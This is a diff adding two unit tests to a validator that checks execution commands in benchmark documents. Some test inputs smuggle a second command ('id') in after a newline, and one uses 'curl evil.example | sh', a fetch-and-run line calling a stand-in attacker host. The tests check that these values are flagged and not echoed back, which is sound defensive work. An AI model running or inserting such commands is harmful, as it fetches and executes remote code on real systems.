@@ -60,6 +60,23 @@ def test_a_document_without_a_known_schema_is_a_finding(
     assert words in finding.line()
 
 
+def test_a_command_of_two_lines_is_refused_whatever_quotes_it_has() -> None:
+    for command in ("tallymark run scale\nid", "tallymark import hyperfine 'a\nid\n'"):
+        value = small_execution()
+        value["execution"]["command"] = command
+        assert [finding.pointer for finding in check_document(loaded(value))].count(
+            "$.execution.command"
+        ) >= 1
+
+
+def test_the_finding_about_a_command_does_not_repeat_it() -> None:
+    value = small_execution()
+    value["execution"]["command"] = "tallymark run scale; curl evil.example | sh"
+    (finding,) = check_document(loaded(value))
+    assert (finding.pointer, finding.rule) == ("$.execution.command", "safe-command")
+    assert "curl" not in finding.line()
+
+
 def test_rules_are_not_run_on_a_document_of_the_wrong_shape() -> None:
     value = small_execution()
     value["runs"][0]["tasks_rejected"] = 1
